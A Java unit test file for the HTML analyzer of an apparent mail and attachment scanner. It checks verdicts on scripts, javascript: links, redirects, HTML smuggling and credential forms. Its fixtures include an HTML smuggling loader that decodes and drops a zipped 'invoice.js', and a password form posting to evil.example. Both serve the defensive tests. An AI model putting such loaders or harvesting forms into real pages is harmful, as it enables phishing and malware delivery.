package dev.prefilter.engine.html;

import static dev.prefilter.engine.testing.TestEngines.codes;
import static dev.prefilter.engine.testing.TestEngines.nodes;
import static dev.prefilter.engine.testing.TestEngines.scanFile;
import static dev.prefilter.engine.testing.TestEngines.scanMail;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prefilter.engine.fixtures.Archives;
import dev.prefilter.engine.fixtures.MimeBuilder;
import dev.prefilter.engine.fixtures.Samples;
import dev.prefilter.engine.model.Finding;
import dev.prefilter.engine.model.Severity;
import dev.prefilter.engine.model.Verdict;
import dev.prefilter.engine.report.Report;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

class HtmlAnalyzerTest {

    @Test
    void anHtmlAttachmentWithScriptIsSuspicious() {
        Report report = scanFile(
                "invoice.html", Samples.text("<html><body><script>document.write('x')</script></body></html>"));
        assertTrue(codes(report).contains("html.script"));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
    }

    @Test
    void scriptInTheMailsOwnHtmlBodyIsOnlyMedium() {
        byte[] mail = MimeBuilder.mail()
                .html("<html><body onload=\"track()\"><p>Newsletter</p><script>track()</script></body></html>")
                .build();
        Report report = scanMail(mail);
        Finding script = only(report, "html.body-script");
        assertEquals(Severity.MEDIUM, script.severity());
        assertEquals(List.of("body[onload]"), script.evidence().get("eventHandlers"));
        assertFalse(codes(report).contains("html.script"));
        assertEquals(Verdict.CLEAN, report.verdict(), codes(report).toString());
    }

    @Test
    void scriptEvidenceNamesTheFirstFiveOfEachKind() {
        StringBuilder html = new StringBuilder("<html><body>");
        for (int i = 1; i <= 7; i++)
            html.append("<script src=\"https://cdn.example/").append(i).append(".js\"></script>");
        html.append("<a href=\"javascript:go()\">go</a></body></html>");
        Finding script = only(scanFile("page.html", Samples.text(html.toString())), "html.script");
        assertEquals(0, script.evidence().get("inlineScripts"));
        assertEquals(
                List.of(
                        "https://cdn.example/1.js",
                        "https://cdn.example/2.js",
                        "https://cdn.example/3.js",
                        "https://cdn.example/4.js",
                        "https://cdn.example/5.js"),
                script.evidence().get("externalScripts"));
        assertFalse(script.evidence().containsKey("eventHandlers"));
    }

    /** A bookmarks export: links only, one of them a bookmarklet that runs only when clicked. */
    @Test
    void aJavascriptLinkIsAFindingOfItsOwnNotAScript() {
        String bookmarks = "<!DOCTYPE NETSCAPE-Bookmark-file-1><TITLE>Bookmarks</TITLE><DL><p>"
                + "<DT><A HREF=\"https://intranet.example/\">Intranet</A>"
                + "<DT><A HREF=\"javascript:void(window.open('https://translate.example/?u='+location.href))\">"
                + "Translate</A></DL>";
        Report report = scanFile("bookmarks.htm", Samples.text(bookmarks));
        assertFalse(codes(report).contains("html.script"), codes(report).toString());
        Finding link = only(report, "html.javascript-link");
        assertEquals(Severity.MEDIUM, link.severity());
        assertEquals(1, link.evidence().get("count"));
        assertTrue(link.evidence().get("links").toString().startsWith("[javascript:void(window.open("));
        assertEquals(Verdict.CLEAN, report.verdict(), codes(report).toString());
        // with a script beside it, both are said
        Report both = scanFile("page.html", Samples.text("<script>go()</script><a href=\"javascript:go()\">go</a>"));
        assertTrue(
                codes(both).containsAll(List.of("html.script", "html.javascript-link")),
                codes(both).toString());
    }

    @Test
    void aRedirectingAttachmentIsLowAndTheMailsBodyIsNotChecked() {
        String page =
                "<html><head><meta http-equiv=\"Refresh\" content=\"0; url=https://login.example/\"></head></html>";
        Finding refresh = only(scanFile("statement.html", Samples.text(page)), "html.meta-refresh");
        assertEquals(Severity.LOW, refresh.severity());
        assertEquals("0; url=https://login.example/", refresh.evidence().get("content"));
        assertFalse(codes(scanMail(MimeBuilder.mail().html(page).build())).contains("html.meta-refresh"));
    }

    private static Finding only(Report report, String code) {
        List<Finding> found =
                report.findings().stream().filter(f -> f.code().equals(code)).toList();
        assertEquals(1, found.size(), code + " in " + codes(report));
        return found.get(0);
    }

    @Test
    void structuredDataScriptsInAnHtmlBodyStayClean() {
        byte[] mail = MimeBuilder.mail()
                .html("<html><head><script type=\"application/ld+json\">{\"@type\":\"Order\"}</script></head>"
                        + "<body><p>Your order shipped.</p><a href=\"https://shop.example/track\">track</a>"
                        + "</body></html>")
                .build();
        Report report = scanMail(mail);
        assertEquals(Verdict.CLEAN, report.verdict(), codes(report).toString());
    }

    @Test
    void smuggledPayloadsAreDecodedAndScanned() {
        String zip = Base64.getEncoder()
                .encodeToString(Archives.zip(Archives.files("invoice.js", "WScript.Echo(1);\n// " + noise(3000))));
        String page = "<html><body><script>var b=atob('" + zip + "');var u=new Uint8Array(b.length);"
                + "var blob=new Blob([u]);var a=document.createElement('a');a.href=URL.createObjectURL(blob);"
                + "a.download='invoice.zip';a.click();</script></body></html>";

        Report report = scanFile("document.html", Samples.text(page));

        assertTrue(codes(report).contains("html.smuggling"), codes(report).toString());
        assertTrue(nodes(report).stream().anyMatch(n -> n.name().equals("invoice.js")), "the smuggled zip was opened");
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    /** Text that does not compress, so the smuggled blob has a realistic size. */
    private static String noise(int length) {
        java.util.Random random = new java.util.Random(42);
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < length; i++) sb.append((char) ('a' + random.nextInt(26)));
        return sb.toString();
    }

    @Test
    void credentialFormsInAttachmentsAreFlagged() {
        Report report = scanFile(
                "login.htm",
                Samples.text("<form action=\"https://evil.example/p\"><input type=\"password\" name=\"p\"></form>"));
        assertTrue(codes(report).contains("html.password-form"));
        assertFalse(codes(report).contains("html.script"));
    }
}
